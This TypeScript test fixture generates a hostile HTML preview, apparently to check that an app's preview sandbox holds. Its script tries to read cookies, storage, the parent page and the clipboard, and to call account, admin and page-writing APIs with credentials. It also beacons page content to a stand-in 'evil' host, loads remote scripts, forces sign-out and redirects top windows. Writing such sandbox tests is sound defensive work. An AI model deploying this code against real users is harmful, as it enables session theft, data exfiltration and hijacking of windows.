/** What a hostile preview tells of its attempts, by name: `no`, or what it got. */
export type Attempts = Record<string, string>;

declare global {
  interface Window {
    /** Set by the preview when it is through. */
    attempts?: Attempts;
    /** Tries to lead windows elsewhere. */
    leave?: (framed: boolean) => void;
  }
}

/** A preview that tries to reach its reader's session, window, storage and machine, and `evil`, a host of its own. */
export const attackPreview = (evil: string): string => `<!doctype html>
<html lang="en">
<head><title>Attack</title><link rel="prefetch" href="${evil}/prefetch"><link rel="stylesheet" href="${evil}/style.css"></head>
<body>
<p>Attack</p>
<img src="${evil}/img.png" alt="">
<script>(${attack})(${JSON.stringify(evil)})</script>
</body>
</html>`;

/** Runs in the preview; nothing outside of it can be named here. */
function attack(evil: string): void {
  const attempts: Attempts = {};
  const json = { method: "POST", credentials: "include", headers: { "content-type": "application/json" } } as const;
  const plain = { ...json, mode: "no-cors", headers: { "content-type": "text/plain" } } as const;
  const page = JSON.stringify({ slug: "attacked", markdown: "# Attacked" });
  const answered = (address: string, more: RequestInit = {}) =>
    fetch(address, { credentials: "include", ...more }).then(({ ok }) => ok);
  const opened = (request: IDBOpenDBRequest) =>
    new Promise((resolve, reject) => {
      request.onsuccess = () => resolve("opened");
      request.onerror = () => reject(request.error);
    });
  const requested = () =>
    new Promise((resolve, reject) => {
      const request = new XMLHttpRequest();
      request.withCredentials = true;
      request.open("GET", "/api/account");
      request.onload = () => resolve(request.responseText);
      request.onerror = () => reject(new Error("refused"));
      request.send();
    });
  const tries: Record<string, () => unknown> = {
    "reads the page around it": () => parent !== window && parent.document.body.innerHTML.length,
    "changes the page around it": () => parent !== window && parent.document.body.append("attacked"),
    "reads cookies": () => document.cookie,
    "sets a cookie": () => {
      // biome-ignore lint/suspicious/noDocumentCookie: what a hostile preview would do.
      document.cookie = "attack=1";
      return document.cookie;
    },
    "reads local storage": () => localStorage.getItem("secret") ?? String(localStorage.length),
    "reads session storage": () => String(sessionStorage.length),
    "opens a database": () => opened(indexedDB.open("attack")),
    "opens a cache": () => caches.open("attack").then(() => "opened"),
    "asks who reads": () => answered("/api/account"),
    "asks who reads, in the old way": requested,
    "reads sources": () => answered("/api/service/components/sources?id=attack"),
    "reads people": () => answered("/api/service/admin/people"),
    "writes a page": () => answered("/api/service/pages", { ...json, body: page }),
    "writes a page as plain text": () => answered("/api/service/pages", { ...plain, body: page }),
    "renames a component": () =>
      answered("/api/service/components", {
        ...json,
        method: "PATCH",
        body: JSON.stringify({ id: "attack", title: "Attacked" }),
      }),
    "sends a beacon": () => {
      navigator.sendBeacon("/api/service/pages", new Blob([page], { type: "text/plain" }));
      navigator.sendBeacon(`${evil}/beacon`, document.body.innerHTML);
      return false;
    },
    "asks a host of its own": () => answered(`${evil}/fetch`, { mode: "no-cors" }),
    "connects to a host of its own": () => {
      new WebSocket(`${evil.replace("http", "ws")}/socket`);
      new EventSource(`${evil}/events`);
      return false;
    },
    "loads a script of its own": () => import(`${evil}/module.js`),
    "opens a window": () => opener === null && window.open("/", "_blank") !== null && "opened",
    "asks for a click": () => confirm("Attack?"),
    "registers a service worker": () =>
      navigator.serviceWorker.register("/api/component/attack.js").then(({ scope }) => scope),
    "calls itself another page": () => {
      const { pathname } = location;
      history.replaceState(null, "", "/account");
      const called = location.pathname;
      history.replaceState(null, "", pathname);
      return called === "/account" && "/account";
    },
    "reads the clipboard": () => navigator.clipboard.readText().then((text) => text || "read"),
    "fills the screen": () => document.documentElement.requestFullscreen().then(() => "filled"),
    "asks for the camera": () => navigator.mediaDevices.getUserMedia({ video: true }).then(() => "given"),
    "saves a file": () => {
      const link = Object.assign(document.createElement("a"), {
        href: "data:text/html,attack",
        download: "attack.html",
      });
      document.body.append(link);
      link.click();
      return false;
    },
    "frames our pages": () => {
      const addresses = location.origin === evil ? [] : ["/account", "/admin", `${evil}/frame`];
      for (const src of addresses) document.body.append(Object.assign(document.createElement("iframe"), { src }));
      return false;
    },
    "loads a plugin": () => {
      document.body.append(Object.assign(document.createElement("object"), { data: `${evil}/object` }));
      return false;
    },
    "calls itself enormous": () => parent.postMessage({ previewHeight: 1e9, height: 1e9 }, "*"),
  };
  const wait = new Promise((resolve) => setTimeout(() => resolve(undefined), 4_000));
  const all = Object.entries(tries).map(async ([name, run]) => {
    try {
      const got = await Promise.race([Promise.resolve(run()), wait]);
      attempts[name] = got ? `yes: ${String(got).slice(0, 80)}` : "no";
    } catch {
      attempts[name] = "no";
    }
  });
  void Promise.all(all).then(() => {
    window.attempts = attempts;
  });
  window.leave = (framed) => {
    const quietly = (run: () => void) => {
      try {
        run();
      } catch {
        // Refused, as it should be.
      }
    };
    const send = (action: string, method: string, target: string) =>
      quietly(() => {
        const form = Object.assign(document.createElement("form"), { action, method, target });
        document.body.append(form);
        form.submit();
      });
    send("/sign-out", "post", "_self");
    send("/sign-out", "post", "_blank");
    send(`${evil}/form`, "get", "_self");
    send(`${evil}/form`, "post", "_blank");
    send(`${evil}/form`, "dialog", "_top");
    for (const target of ["_top", "_parent", "named"]) send(`${evil}/form-${target}`, "post", target);
    const request = (action: string, method: string) =>
      quietly(() => {
        const form = Object.assign(document.createElement("form"), { action: "/nowhere", method: "get" });
        const field = Object.assign(document.createElement("input"), { name: "secret", value: "typed" });
        const button = Object.assign(document.createElement("button"), { formAction: action, formMethod: method });
        form.append(field, button);
        document.body.append(form);
        // What a preview of its own does to the event, or to what hears it.
        form.addEventListener("submit", (event) => event.stopImmediatePropagation());
        form.requestSubmit(button);
        button.click();
      });
    for (const method of ["get", "post"]) request(`${evil}/requested`, method);
    request("/sign-out", "post");
    const follow = (href: string, target: string) =>
      quietly(() => {
        const link = Object.assign(document.createElement("a"), { href, target });
        document.body.append(link);
        link.click();
      });
    follow(`${evil}/blank`, "_blank");
    if (!framed) return;
    follow(`${evil}/top`, "_top");
    follow(`${evil}/parent`, "_parent");
    quietly(() => top?.location.assign(`${evil}/assign`));
    quietly(() => parent.location.replace(`${evil}/replace`));
    quietly(() => location.assign(`${evil}/self`));
  };
}
